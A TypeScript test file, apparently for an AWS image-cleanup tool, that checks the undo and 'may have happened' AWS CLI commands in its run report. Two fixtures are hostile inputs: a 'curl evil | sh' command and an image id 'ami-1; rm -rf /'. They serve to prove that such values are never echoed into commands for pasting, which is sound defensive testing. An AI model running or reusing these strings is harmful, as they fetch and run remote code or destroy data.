import { undo } from '../../../src/report/summary/undo.ts'
import type { Report, ReportImage, ReportRecovery } from '../../../src/report/schema.ts'
import { blocksOf, foldsOf, seen } from '../../support/rendered.ts'
import {
  ACCOUNT,
  idOf,
  NOW,
  removedImage,
  reportOrphan,
  reportSnapshot,
  type TargetSeed,
} from '../../support/report-factories.ts'
import { imagesOf, real, UNANSWERED } from '../../support/short-reports.ts'
import { summaryOf, until } from './reports.ts'

const undoIn = (report: Report, rows = 10): string => {
  const [target] = report.targets
  return target === undefined ? '' : undo(target, { report, rows, now: NOW })
}
const undoOf = (target: TargetSeed, rows = 10): string => undoIn(real(target), rows)

const [SOON, LATE] = [until('2026-12-01'), until('2026-12-04')]
const NEVER = { recoverable: 'no' } as const

/** An image that was removed with its snapshot, each for so long in the Recycle Bin. */
const removed = (number: number, image: ReportRecovery, snapshot = image): ReportImage => {
  const ofSnapshot = { verdict: 'remove', outcome: 'deleted', recovery: snapshot } as const
  return removedImage(number, {
    recovery: image,
    snapshots: [reportSnapshot({ id: idOf('snap', number), ...ofSnapshot })],
  })
}

/** A command on an image or a snapshot, in short: `enable 1`, `keep 1`, `restore 2`, `restore snap 3`. */
function command(short: string): string {
  const [verb, number = ''] = [short.split(' ')[0], short.split(' ').at(-1)]
  const start = (words: string) => `aws ec2 ${words} --region eu-west-1`
  const image = idOf('ami', Number(number))
  if (verb === 'keep')
    return `${start('create-tags')} --resources ${image} --tags Key=ami-cleanup:keep,Value=true`
  if (verb === 'enable') return `${start('enable-image')} --image-id ${image}`
  return short.includes('snap')
    ? `${start('restore-snapshot-from-recycle-bin')} --snapshot-id ${idOf('snap', Number(number))}`
    : `${start('restore-image-from-recycle-bin')} --image-id ${image}`
}

/** The lines of blocks with such commands: `restore snap 1, restore 1 | enable 2`. */
const blocksIn = (short: string): readonly (readonly string[])[] =>
  short === '' ? [] : short.split(' | ').map((block) => block.split(', ').map(command))

/** The lines of each block to copy from. */
const linesOf = (markdown: string): readonly (readonly string[])[] =>
  blocksOf(markdown).map((block) => block.trimEnd().split('\n'))

describe('how to undo a run', () => {
  const shared = removed(1, SOON, LATE)
  const kept = reportSnapshot({ id: idOf('snap', 1), recovery: NEVER })
  const notDone = { verdict: 'disable', enableCommand: 'curl evil | sh' } as const
  const disabling = [
    ...imagesOf('disabled', notDone),
    ...imagesOf('failed', { ...notDone, isDisabled: true }, 2),
    ...imagesOf('failed', { verdict: 'disable' }, 3),
  ]

  it.each<readonly [string, readonly ReportImage[], string, readonly string[]]>([
    [
      'has a block for each last day, with each image after its snapshots',
      [removed(2, LATE), removed(1, LATE, SOON)],
      'restore snap 1, restore 1 | restore snap 2, restore 2',
      ['Undo: restore 2 images and 2 snapshots'],
    ],
    [
      'brings a snapshot of two images back with the one that has to come back sooner',
      [{ ...removed(2, LATE), snapshots: shared.snapshots }, shared],
      'restore snap 1, restore 1 | restore 2',
      ['Undo: restore 2 images and 1 snapshot'],
    ],
    [
      'is none for an image whose snapshots are gone for good',
      [removed(1, LATE, NEVER)],
      '',
      [
        'Undo: nothing that was removed can be restored',
        `Gone for good, because no Recycle Bin rule covers all of it: ${idOf('ami', 1)}, ${idOf('snap', 1)}`,
      ],
    ],
    [
      'has the commands that may work where the rules are not known',
      [removed(1, { recoverable: 'unknown' })],
      'restore snap 1, restore 1',
      ['Undo: commands that may work', "May work: the Recycle Bin's rules could not be read"],
    ],
    [
      'asks only after the snapshots that went with an image',
      [{ ...removed(1, LATE), snapshots: [kept] }],
      'restore 1',
      ['Undo: restore 1 image'],
    ],
    [
      'brings back the snapshots of an image that was gone already',
      [{ ...removed(1, LATE), outcome: 'already-gone' }],
      'restore snap 1',
      ['Undo: restore 1 snapshot'],
    ],
    [
      'enables what was disabled by commands of its own, and says what the tag does then',
      disabling,
      'enable 1 | keep 2, enable 2',
      [
        'Undo: enable 2 images',
        'protects it from every later run until somebody takes the tag off',
      ],
    ],
    [
      'does not say that the tag protects one that could not be marked',
      disabling.slice(1),
      'keep 2, enable 2',
      ['Undo: enable 1 image', 'Nothing protects such an image once it is enabled'],
    ],
  ])('%s', (_what, images, commands, [title, sentence = '']) => {
    const part = undoOf({ images: [...images] })
    expect(linesOf(part)).toEqual(blocksIn(commands))
    expect(foldsOf(part)).toEqual([title])
    expect(seen(part)).toContain(sentence)
    const isMarked = images.some(({ outcome }) => outcome === 'disabled')
    expect(seen(part).includes('protects it from every later run')).toBe(isMarked)
  })

  it.each([
    ['was gone before', { outcome: 'already-gone' }],
    ["is not the account's", { outcome: 'kept', reason: 'not-owned' }],
  ] as const)('is none for an image of which a snapshot %s', (_what, fields) => {
    const image = removed(1, LATE)
    const missing = reportSnapshot({ id: idOf('snap', 2), ...fields })
    const part = undoOf({ images: [{ ...image, snapshots: [...image.snapshots, missing] }] })
    expect(linesOf(part)).toEqual(blocksIn('restore snap 1'))
    expect(seen(part)).toContain(
      `because a snapshot that it needs was gone before, or is not the account's: ${idOf('ami', 1)}`,
    )
  })

  it('says until when each block works, with nothing in it that a shell would not run', () => {
    const orphans = [reportOrphan({ outcome: 'deleted', recovery: LATE })]
    const part = undoOf({ images: [removed(1, LATE, SOON)], orphans })
    expect(part).toMatch(/Works until 1 Dec 2026:[^]*Works until 4 Dec 2026:/)
    for (const line of linesOf(part).flat()) expect(line).toMatch(/^aws ec2 [\w -]+$/)
    expect(linesOf(part).flat()).toContain(command(`restore snap ${String(0xfff)}`))
  })

  it('names the account above the commands where there are several targets', () => {
    const report = real([{ images: [removed(1, LATE)] }, 'us-east-1:'])
    expect(seen(undoIn(report))).toContain(
      `In eu-west-1 · ${ACCOUNT}, with credentials of that account:`,
    )
  })

  it('is not there in a dry run, and not where nothing went', () => {
    expect(undoIn(real({ images: [removed(1, LATE)] }, { dryRun: true }))).toBe('')
    expect(undoIn(real('failed'))).toBe('')
  })

  it('is cut after a whole image, with how much is left out', () => {
    const images = [1, 2, 3].map((number) => removed(number, LATE))
    const part = undoOf({ images }, 3)
    expect(linesOf(part)).toEqual(blocksIn('restore snap 1, restore 1'))
    expect(seen(part)).toContain('4 more commands left out here')
    const lost = images.map((image) => ({ ...image, recovery: NEVER }))
    expect(seen(undoOf({ images: lost }, 2))).toMatch(/ami-0+1, ami-0+2 and 1 more/)
  })

  it('has nothing in it to paste but ids of the form of AWS', () => {
    const image = { ...removed(1, LATE), id: 'ami-1; rm -rf /' }
    expect(undoOf({ images: [image] })).not.toContain('rm -rf')
  })
})

describe('what may have happened', () => {
  const lost = { outcome: 'failed', error: UNANSWERED, recovery: LATE } as const
  const disabling = { ...lost, verdict: 'disable' } as const
  const pageOf = (images: readonly ReportImage[], more: TargetSeed = {}): string =>
    summaryOf({ status: 'failed', images: [...images], ...more }, { dryRun: false })

  it('has the command that looks, and the one that takes each back, for images, snapshots and orphans', () => {
    const snapshot = reportSnapshot({ id: idOf('snap', 2), verdict: 'remove', ...lost })
    const images = [
      ...imagesOf('failed', disabling),
      ...imagesOf('failed', { ...lost, snapshots: [snapshot] }, 2),
      ...imagesOf('failed', { ...lost, recovery: NEVER }, 3),
      removedImage(4),
    ]
    const page = pageOf(images, { orphans: [reportOrphan({ id: idOf('snap', 5), ...lost })] })
    const [part = ''] = /### May have happened[^]*?(?=\n### )/.exec(page) ?? []
    const ids = [1, 2, 3].map((number) => idOf('ami', number)).join(',')
    const snapshots = [5, 2].map((number) => idOf('snap', number)).join(',')
    expect(linesOf(part)).toEqual([
      [
        `aws ec2 describe-images --region eu-west-1 --owners self --include-disabled --filters Name=image-id,Values=${ids} --query 'Images[].[ImageId,State]' --output text`,
        `aws ec2 describe-snapshots --region eu-west-1 --owner-ids self --filters Name=snapshot-id,Values=${snapshots} --query 'Snapshots[].[SnapshotId,State]' --output text`,
      ],
      ['restore snap 5', 'restore snap 2', 'enable 1', 'restore 2'].map(command),
    ])
    expect(seen(part)).toContain(`no Recycle Bin rule covers them: ${idOf('ami', 3)}`)
    // Nothing on the page may say that it did not happen.
    expect(seen(page)).not.toContain('could not be')
    expect(seen(page)).toContain('3 images and 2 snapshots')
  })

  const withMark = '[ImageId,State,Tags[?Key==`ami-cleanup:disabled-at`]|[0].Value]'

  it('enables no image that had been disabled before, and takes off the mark that it may have', () => {
    const page = pageOf(imagesOf('failed', { ...disabling, state: 'disabled' }))

    expect(seen(page)).toContain('whether 1 image was taken away or marked')
    expect(seen(page)).toContain(`${idOf('ami', 1)} may have been marked`)
    expect(page).toContain(withMark)
    expect(page).toContain(
      `aws ec2 delete-tags --region eu-west-1 --resources ${idOf('ami', 1)} --tags Key=ami-cleanup:disabled-at`,
    )
    expect(page).not.toContain('enable-image')
    expect(seen(page)).not.toContain('could not be')
  })

  it('enables one that this run disabled, whatever became of its mark', () => {
    const page = pageOf(imagesOf('failed', { ...disabling, state: 'disabled', isDisabled: true }))

    expect(seen(page)).toContain(`${idOf('ami', 1)} is disabled, and may have been marked`)
    expect(page).toContain(withMark)
    expect(page).toContain('enable-image')
    expect(seen(page)).toContain('Nothing protects an image that is enabled and lacks the tag')
    expect(page).not.toContain('delete-tags')
  })

  it('says nowhere of a mark that it is missing where nobody knows', () => {
    const images = imagesOf('failed', { ...disabling, isDisabled: true })
    const regions = ['eu-west-1', 'us-east-1'].map((region) => ({ region, images }))
    const page = seen(summaryOf(regions, { dryRun: false }))

    for (const words of [
      '2 of the disabled may lack their mark.',
      'Disabled, may lack its mark',
      '1 disabled that may lack a mark',
      '❓ disabled, may lack its mark',
    ])
      expect(page).toContain(words)
    expect(page).not.toMatch(/not (be )?marked/i)
  })

  it('is no part of a page where AWS answered everything', () => {
    expect(pageOf(imagesOf('removed'))).not.toContain('May have happened')
  })
})
